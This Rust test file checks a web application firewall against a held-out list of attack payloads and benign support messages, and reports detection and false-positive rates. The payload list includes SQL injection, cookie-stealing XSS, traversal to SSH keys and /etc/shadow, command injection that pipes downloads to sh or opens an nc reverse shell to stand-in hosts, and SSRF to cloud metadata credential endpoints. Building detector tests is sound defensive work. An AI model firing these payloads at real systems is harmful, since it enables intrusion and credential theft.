//! A held-out set, written after the rules were tuned on the main corpora
//! and not used for tuning since. Its rates estimate how the PL1 rules
//! generalise; the main corpus rates are optimistic because the same author
//! wrote the rules and tuned them against those corpora.

use rampart_waf::Inspector;

use crate::corpus::deliver;
use crate::{inspect, test_policy};

const HELD_OUT_MALICIOUS: &[&str] = &[
    // SQL injection
    "10 AND 5=5",
    "abc' OR 'z'='z' LIMIT 1 --",
    "1 UNION SELECT credit_card FROM payments",
    "'; SHUTDOWN WITH NOWAIT;--",
    "x' AND (SELECT COUNT(*) FROM users) > 0 --",
    "1) AND SLEEP(7) AND (1=1",
    "' aNd 3>2#",
    "9 || 1=1",
    "'+(select 1 from dual where 1=1)+'",
    "1 AND updatexml(1,concat(0x2e,(select @@version)),1)",
    "-5 union distinct select 1,schema_name from information_schema.schemata",
    "name=' or ''='",
    // XSS
    "<svg onload=prompt(document.domain)>",
    "<img src=1 oNeRrOr=alert`xss`>",
    "<iframe src=//evil.example></iframe>",
    "<script>new Image().src='//e.example/?'+document.cookie</script>",
    "\"autofocus onfocus=alert(1) x=\"",
    "<a href=\"&#106;avascript:alert(1)\">go</a>",
    "<body/onpageshow=alert(1)>",
    "<object data=//evil.example/x.swf>",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "<embed src=javascript:alert(1)>",
    // Path traversal
    "../../../../../../etc/passwd%00.png",
    "..\\..\\..\\..\\boot.ini",
    "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "/static/..%252f..%252f..%252fetc/passwd",
    "....//....//etc/shadow",
    "file:///c:/windows/win.ini",
    "../../../../root/.ssh/id_rsa",
    "/proc/self/cmdline",
    // Command injection
    "; whoami #",
    "| cat /etc/hosts",
    "`uname -a`",
    "$(id -u)",
    "& nslookup attacker.example &",
    "|| wget -qO- evil.example/p | sh",
    "; bash -c 'curl evil.example'",
    "a; ping -c 1 evil.example",
    "${jndi:dns://evil.example/x}",
    "{{ ''.__class__.__base__.__subclasses__() }}",
    "; nc -e /bin/bash 203.0.113.5 9001",
    "1 && cat /proc/version",
    // SSRF
    "http://127.0.0.53/",
    "http://[::]:80/",
    "http://017700000001/",
    "http://0x7F.0x00.0x00.0x01/",
    "http://169.254.170.2/v2/credentials",
    "https://10.255.255.1:8443/admin",
    "http://[0000::1]/",
    "http://user:pass@192.168.100.1/",
    "gopher://10.0.0.2:25/xHELO",
    "http://metadata/computeMetadata/v1/",
    "http://127.127.127.127/",
    "http://[::ffff:192.168.0.1]/",
];

const HELD_OUT_BENIGN: &[&str] = &[
    "Could you cc Pádraig O'Sullivan on the thread? He's handling the renewal.",
    "The 'select all' checkbox doesn't select anything on page 2.",
    "Our union rep said the new shift pattern starts Monday; please update the rota.",
    "I dropped the kids at school, then drove to the depot -- 40 mins each way.",
    "Error 502 when I upload a 20MB file; smaller ones are fine.",
    "Can the API return dates as ISO 8601 (e.g. 2024-05-01T10:00:00Z)?",
    "Loving the new release! One nit: the 'Save & close' button is tiny on mobile.",
    "We'd like to order 3 more licences, or 5 if the discount applies.",
    "Is it 'whom' or 'who'? The docs use both.",
    "Our webhook at https://ops.example.net/hooks/rampart keeps timing out.",
    "Typo on the pricing page: 'recieve' should be 'receive'.",
    "The CSV has columns name, email, and role -- role is blank for everyone.",
    "I ran `git log --oneline | head -5` and the commit is there.",
    "Can I filter by status=open and assignee=me at the same time?",
    "It'd be great to have keyboard shortcuts (Ctrl+K to search, for example).",
    "Mary-Kate & Ashley's account was merged by mistake; please split them.",
    "The union of our two teams' calendars shows no free slot this week.",
    "Drop-down menus close too fast on Firefox 125; is that a known issue?",
    "Script for the demo: intro (2 min), live walkthrough (10 min), Q&A (5 min).",
    "Please don't delete the archive -- we need it for the audit in June.",
    "SELECT is greyed out in the report builder until you pick a data source.",
    "Response time went from 120ms to 900ms after the 3.2 update.",
    "Our address is 4 Rue d'Alésia, 75014 Paris -- the invoice shows the old one.",
    "Hi! I'm 5'11\" and the size chart says L, but the L is huge. Exchange?",
    "Can you whitelist 198.51.100.0/24 for our office? (Public range, not internal.)",
    "The Python SDK raises KeyError: 'items' when the list is empty.",
    "We use 1 or 2 regions at most; multi-region isn't needed.",
    "What's the max length for the 'notes' field? Ours get cut at 255 chars.",
    "Thanks for the quick fix, Chloë -- you've saved our launch.",
    "Documentation link: https://docs.example.com/api#pagination (section 4.2).",
];

#[test]
fn held_out_rates_at_pl1_are_reported_and_stay_within_loose_bounds() {
    let ins = Inspector::new(test_policy(1)).unwrap();
    let mut detected = 0;
    let mut total = 0;
    for (i, p) in HELD_OUT_MALICIOUS.iter().enumerate() {
        for v in [i % 9, (i + 5) % 9] {
            total += 1;
            let verdict = inspect(&ins, &deliver(p, v));
            if verdict.is_attack() {
                detected += 1;
            } else {
                println!("  held-out MISS v{v}: {p:?}");
            }
        }
    }
    let mut fps = 0;
    let mut benign_total = 0;
    for (i, text) in HELD_OUT_BENIGN.iter().enumerate() {
        // Benign text in the places attack payloads went: JSON, form, query.
        for v in [1, 2, 0, i % 3] {
            benign_total += 1;
            let verdict = inspect(&ins, &deliver(text, v));
            if verdict.is_attack() {
                fps += 1;
                println!(
                    "  held-out FP v{v}: {text:?} ids={:?}",
                    verdict.matched.as_slice()
                );
            }
        }
    }
    println!(
        "held-out PL1: detection {:.1}% ({detected}/{total}), false positives {:.1}% ({fps}/{benign_total})",
        100.0 * detected as f64 / total as f64,
        100.0 * fps as f64 / benign_total as f64
    );
    assert!(
        detected * 100 >= total * 80,
        "held-out detection {detected}/{total}"
    );
    assert!(
        fps * 100 <= benign_total * 5,
        "held-out false positives {fps}/{benign_total}"
    );
}
